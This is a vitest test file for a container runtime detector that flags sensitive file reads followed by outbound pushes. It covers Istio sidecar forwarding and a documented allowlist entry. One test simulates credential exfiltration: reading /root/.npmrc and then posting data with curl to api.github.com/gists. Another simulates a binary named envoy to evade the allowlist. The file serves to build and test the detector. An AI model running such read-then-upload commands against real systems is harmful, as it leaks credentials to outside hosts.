/**
 * A service-mesh sidecar forwards its pod's traffic: with Istio's iptables redirect, the app's socket still
 * names the real destination (the sensors see the app's own connect and sends), and envoy in the
 * `istio-proxy` container opens a second connection there and sends the same bytes. So a CI pod in the mesh
 * whose `npm ci` sends 1.1 MiB of requests to registry.npmjs.org (a download: nothing for the app) made envoy
 * a push by egress, and with pilot-agent's read of the pod's istio-token at start, `sensitive-read-then-push`,
 * high, on every build. Which proxy forwards for whom the sensors cannot tell, so this is for the allowlist
 * (docs/detection.md, "Allowlist and suppression"): exempting the sidecar's envoy keeps the app's own alerts.
 */
import { describe, expect, it } from 'vitest';
import type { HostResolver } from '../../../src/correlate/index.js';
import { type Ctr, MiB, type Proc, runResolved, Scenario, TEST_DNS } from './builder.js';
import { documentedEntry } from './documented-allowlist.js';

const NPM = '104.16.1.34';
const API = TEST_DNS['api.github.com']![0]!;
const resolveHost: HostResolver = async (h) => (h === 'registry.npmjs.org' ? [NPM] : (TEST_DNS[h] ?? []));

/** The sidecar entry the ADS documents (docs/detection.md points there). */
const SIDECAR_ENTRY = documentedEntry('mesh sidecar');

interface MeshPod {
  s: Scenario;
  app: Ctr;
  sh: Proc;
  envoy: Proc;
}

function meshedBuildPod(): MeshPod {
  const s = new Scenario();
  const app = s.container({
    namespace: 'ci',
    pod: 'build-7f9c2-x1',
    name: 'build',
    image: 'docker.io/library/node:20',
  });
  const proxy = s.container({
    namespace: 'ci',
    pod: 'build-7f9c2-x1',
    name: 'istio-proxy',
    image: 'docker.io/istio/proxyv2:1.24.2',
  });
  const agent = s.init(proxy, '/usr/local/bin/pilot-agent', 'proxy sidecar --domain ci.svc.cluster.local');
  s.read(agent, '/var/run/secrets/tokens/istio-token', 1_100).read(
    agent,
    '/var/run/secrets/istio/root-cert.pem',
    1_200,
  );
  const envoy = s.exec(proxy, '/usr/local/bin/envoy', '-c etc/istio/proxy/envoy-rev.json --drain-time-s 45', {
    parent: agent,
  });
  const sh = s.init(app, '/bin/sh', '-c npm ci && npm run build');
  s.wait(3_000);
  return { s, app, sh, envoy };
}

/** `npm ci` of a 2,600-package lockfile: each request sent by npm, and again by envoy upstream. */
function npmCi({ s, app, sh, envoy }: MeshPod): void {
  const npm = s.exec(app, '/usr/local/bin/node', '/usr/local/bin/npm ci', { parent: sh });
  for (let i = 0; i < 2_600; i++) {
    s.connect(npm, NPM, 443, { cookie: `n${i % 16}` }).send(npm, NPM, 443, 450, { cookie: `n${i % 16}` });
    s.connect(envoy, NPM, 443, { cookie: `e${i % 16}` }).send(envoy, NPM, 443, 450, { cookie: `e${i % 16}` });
    s.wait(20);
  }
  s.exit(npm);
}

describe('a mesh sidecar forwarding its pod traffic', () => {
  it('makes envoy a push by egress during a download, high with the istio-token read (no entry)', async () => {
    const pod = meshedBuildPod();
    npmCi(pod);
    const { alerts } = await runResolved(pod.s.events, { resolveHost });
    expect(alerts.map((a) => [a.rule, a.severity, a.container.name, a.push.tool])).toEqual([
      ['sensitive-read-then-push', 'high', 'istio-proxy', 'envoy'],
    ]);
  });

  it('is silenced by the documented sidecar entry', async () => {
    const pod = meshedBuildPod();
    npmCi(pod);
    expect((await runResolved(pod.s.events, { resolveHost, allowlist: [SIDECAR_ENTRY] })).alerts).toEqual([]);
  });

  it("keeps the app's own exfiltration through the sidecar alerting", async () => {
    const pod = meshedBuildPod();
    const { s, app, sh, envoy } = pod;
    const cat = s.exec(app, '/bin/cat', '/root/.npmrc', { parent: sh });
    s.read(cat, '/root/.npmrc', 300).exit(cat);
    const curl = s.exec(app, '/usr/bin/curl', '-sd @/tmp/n.json https://api.github.com/gists', { parent: sh });
    s.connect(curl, API, 443).send(curl, API, 443, 2_000);
    s.connect(envoy, API, 443, { cookie: 'g' }).send(envoy, API, 443, 2_000, { cookie: 'g' });
    s.wait(200).exit(curl);
    const { alerts } = await runResolved(s.events, { resolveHost, allowlist: [SIDECAR_ENTRY] });
    expect(alerts.map((a) => [a.rule, a.severity, a.container.name, a.push.tool])).toEqual([
      ['sensitive-read-then-push', 'high', 'build', 'curl'],
    ]);
  });

  it('does not exempt an envoy named so in another image', async () => {
    const pod = meshedBuildPod();
    const fake = pod.s.exec(pod.app, '/usr/local/bin/envoy', '', { parent: pod.sh });
    pod.s
      .connect(fake, NPM, 443)
      .send(fake, NPM, 443, 2 * MiB)
      .wait(100)
      .exit(fake);
    const { alerts } = await runResolved(pod.s.events, { resolveHost, allowlist: [SIDECAR_ENTRY] });
    expect(alerts.map((a) => [a.container.name, a.push.tool])).toEqual([['build', 'envoy']]);
  });
});
